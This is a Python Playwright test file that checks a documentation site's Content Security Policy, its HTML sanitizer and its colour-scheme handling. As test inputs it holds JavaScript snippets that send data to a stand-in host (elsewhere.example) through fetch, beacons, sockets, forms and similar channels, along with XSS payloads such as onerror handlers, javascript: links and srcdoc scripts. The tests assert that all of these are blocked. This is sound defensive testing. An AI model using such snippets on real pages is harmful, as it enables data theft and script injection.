"""A page runs, loads and sends nothing but the site's own, whatever gets into it."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser import pages
from tests.browser.pages import GATE_CHECK, LESSON, answer, expected, verdicts
from tests.conftest import Site

ELSEWHERE = "https://elsewhere.example/"
KINDS = (
    "",
    LESSON,
    GATE_CHECK,
    "assessments/readiness/",
    "assessments/projects/",
    "assessments/your-own/",
    "calculators/sample-size/",
    "regulation/",
    "evidence/",
    "glossary/",
    "cite/",
    "nowhere/404.html",
    "404.html",
    "s/DAT-01/",
)


@pytest.fixture(scope="module")
def visit(browser: Browser, site: Site) -> Iterator[Page]:
    """One page for what changes nothing on it."""
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(site.url + GATE_CHECK)
        yield page


# ── the policy ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_no_kind_of_page_needs_what_its_policy_forbids(page: Page, site: Site) -> None:
    traffic = pages.Traffic.of(page.context)

    for address in KINDS:
        page.goto(site.url + address)
        page.wait_for_load_state("networkidle")

    assert [said for said in traffic.complaints if "404 (File not found)" not in said] == []


def test_instant_navigation_search_and_colors_work_under_the_policy(page: Page, site: Site) -> None:
    traffic = pages.Traffic.of(page.context)
    page.goto(site.url + LESSON)
    page.evaluate("() => { window.sameVisit = true }")

    page.get_by_role("navigation", name="Tabs").get_by_role("link", name="Assess").click()
    expect(page).to_have_url(f"{site.url}assessments/")
    page.get_by_role("main").get_by_role("link", name="Ten-minute gate check").first.click()
    expect(page).to_have_url(site.url + GATE_CHECK)
    answer(page, FRM_01="no")
    expect(verdicts(page)).to_have_text(expected(FRM_01="no"))
    page.get_by_role("textbox", name="Search").fill("DRF-01")
    expect(page.locator(".md-search-result__item").first).to_contain_text("DRF-01")
    page.keyboard.press("Escape")
    page.locator("label[for=__palette_1]:visible").click()

    expect(page.locator("body")).to_have_attribute("data-md-color-media", "(prefers-color-scheme: light)")
    assert page.evaluate("() => window.sameVisit")
    assert traffic.complaints == []


LEAKS = {
    "fetch": "to => fetch(to).catch(() => {})",
    "beacon": "to => navigator.sendBeacon(to, 'answers')",
    "request": "to => { const one = new XMLHttpRequest(); one.open('POST', to); one.send('answers') }",
    "socket": "to => new WebSocket(to.replace('https', 'wss'))",
    "events": "to => new EventSource(to)",
    "image": "to => { new Image().src = to }",
    "sound": "to => { new Audio(to).load() }",
    "style sheet": "to => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }))",
    "frame": "to => document.body.append(Object.assign(document.createElement('iframe'), { src: to }))",
    "object": "to => document.body.append(Object.assign(document.createElement('object'), { data: to }))",
    "form": "to => { const one = document.createElement('form'); Object.assign(one, { action: to, method: 'post' }); "
    "document.body.append(one); one.submit() }",
    "import": "to => import(to).catch(() => {})",
    "font": "to => new FontFace('a', `url(${to})`).load().catch(() => {})",
    "base": "to => document.head.append(Object.assign(document.createElement('base'), { href: to }))",
}


TRY = """([way, to]) => new Promise((done) => {
  addEventListener("securitypolicyviolation", () => done("stopped"), { once: true });
  setTimeout(() => { // outside of the test's own call, which may do more than a page
    try { (0, ways[way])(to) } catch { done("refused") }
  });
  setTimeout(() => done("went out"), 3000);
})"""


@pytest.mark.parametrize("way", LEAKS)
def test_a_way_out_is_closed(visit: Page, way: str) -> None:
    traffic = pages.Traffic.of(visit.context)

    assert visit.evaluate(TRY.replace("ways[way]", LEAKS[way]), [way, ELSEWHERE]) in {"stopped", "refused"}
    assert [request.url for request in traffic.requests if ELSEWHERE in request.url and "csp" not in (request.failure or "").lower()] == []


RUNS = {
    "an inline script": "() => document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' }))",
    "a handler": "() => { const one = document.createElement('img'); one.setAttribute('onerror', 'window.ran = true'); "
    "document.body.append(one); one.src = 'nothing.png' }",
    "an address": "() => { const one = document.createElement('a'); one.href = 'javascript:void(window.ran = true)'; one.click() }",
    "a text": "() => { try { setTimeout('window.ran = true') } catch {} }",
    "a function": "() => { try { new Function('window.ran = true')() } catch {} }",
    "a script from elsewhere": "() => { try { document.body.append(Object.assign(document.createElement('script'), "
    "{ src: 'https://elsewhere.example/a.js' })) } catch {} }",
    "a worker of a text": "() => { try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {} }",
    "markup": "() => { document.querySelector('h1').innerHTML += '<img src=nothing.png onerror=\"window.ran = true\">' }",
    "markup in a frame": "() => { document.querySelector('h1').innerHTML += "
    "'<iframe srcdoc=\"<script>parent.ran = true</script>\"></iframe>' }",
}


@pytest.mark.parametrize("way", RUNS)
def test_what_is_not_the_site_s_own_does_not_run(visit: Page, way: str) -> None:
    visit.evaluate("() => { delete window.ran }")
    visit.evaluate(f"() => new Promise((done) => setTimeout(() => {{ ({RUNS[way]})(); setTimeout(done, 50) }}))")

    assert visit.evaluate("() => window.ran") is None


# ── the door for markup ──────────────────────────────────────────────────────────────────────────────────────────────

DOOR = "html => import(new URL('assets/javascripts/markup.js', window.__md_scope)).then(({ parsed }) => { \
const p = document.createElement('p'); p.append(parsed(html)); return new XMLSerializer().serializeToString(p) })"
HELD = [
    ('<p class="a">A <b>b</b></p>', '<p class="a">A <b>b</b></p>'),
    ("<p onclick=go()>A</p>", "<p>A</p>"),
    ("<img src=x onerror=alert(1)>A", "A"),
    ("<script>alert(1)</script>A", "A"),
    ("<a href=javascript:alert(1)>A</a>", "<a>A</a>"),
    ("<a href=' java\nscript:alert(1)'>A</a>", "<a>A</a>"),
    ("<a href='data:text/html,x'>A</a>", "<a>A</a>"),
    ("<a href='//[bad'>A</a>", "<a>A</a>"),
    ("<a href='#q-dat-01'>A</a>", '<a href="#q-dat-01">A</a>'),
    ("<a href='https://example.org/' target=_top ping=x>A</a>", '<a href="https://example.org/">A</a>'),
    ("<p style='color:red'>A</p>", "<p>A</p>"),
    (
        "<svg><script>alert(1)</script><rect width=1 onload=a></rect></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>',
    ),
    ("<svg><a xlink:href=javascript:alert(1)>A</a></svg>", '<svg xmlns="http://www.w3.org/2000/svg"><a>A</a></svg>'),
    ("<math><mi>A</mi></math>B", "B"),
    ("<form action=https://elsewhere.example><input formaction=x name=a></form>", '<form><input name="a" /></form>'),
    ("<iframe srcdoc='<script>1</script>'></iframe>A", "A"),
    ("<template><img onerror=a></template>A", "A"),
    ("<constructor>A</constructor><toString>B</toString>", ""),
    ("<p constructor=1 __proto__=2>A</p>", "<p>A</p>"),
]


@pytest.mark.parametrize(("html", "held"), HELD)
def test_the_door_lets_in_what_views_make(visit: Page, html: str, held: str) -> None:
    got = visit.evaluate(DOOR, html)

    assert got.replace('<p xmlns="http://www.w3.org/1999/xhtml">', "", 1).removesuffix("</p>") == held


# ── colors ──────────────────────────────────────────────────────────────────────────────────────────────────────────

STATED = "[...document.querySelectorAll('meta[name=color-scheme]')].map(one => one.content)"


def test_colors_that_the_reader_chose_are_kept_and_those_of_the_system_are_not(page: Page, site: Site) -> None:
    page.emulate_media(color_scheme="dark")
    page.goto(site.url)
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.locator("label[for=__palette_1]:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
    assert page.evaluate("() => Object.keys(localStorage)") == ["/some/base/.__palette"]

    page.locator("label[for=__palette_2]:visible").click()
    page.locator("label[for=__palette_0]:visible").click()

    assert page.evaluate("() => Object.keys(localStorage)") == []


def test_colors_follow_the_system_before_the_theme_has_started(page: Page, site: Site) -> None:
    page.emulate_media(color_scheme="dark")
    page.route("**/bundle.*.js", lambda route: route.abort())
    page.goto(site.url)

    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


def test_a_page_states_its_colors_to_the_browser_at_once_and_with_each_choice(page: Page, site: Site) -> None:
    page.emulate_media(color_scheme="dark")
    page.add_init_script("addEventListener('DOMContentLoaded', () => { window.stated = " + STATED + " }, { once: true })")
    page.goto(site.url)
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")

    stated = [page.evaluate("() => window.stated"), page.evaluate(STATED)]
    page.locator("label[for=__palette_1]:visible").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-switching", "")
    stated.append(page.evaluate(STATED))
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")

    assert [*stated, page.evaluate("() => window.stated")] == [["dark"], ["dark"], ["light"], ["light"]]


@pytest.mark.parametrize("rubbish", ["{", "5", '{"index":1}', '{"index":"a"}', "null", json.dumps({"index": 99, "color": {}})])
def test_rubbish_in_the_theme_s_setting_does_no_harm(page: Page, site: Site, rubbish: str) -> None:
    page.goto(site.url + "404.html")
    page.evaluate("text => localStorage.setItem('/some/base/.__palette', text)", rubbish)
    traffic = pages.Traffic.of(page.context)

    page.goto(site.url + LESSON)
    page.wait_for_load_state("networkidle")

    assert traffic.complaints == []
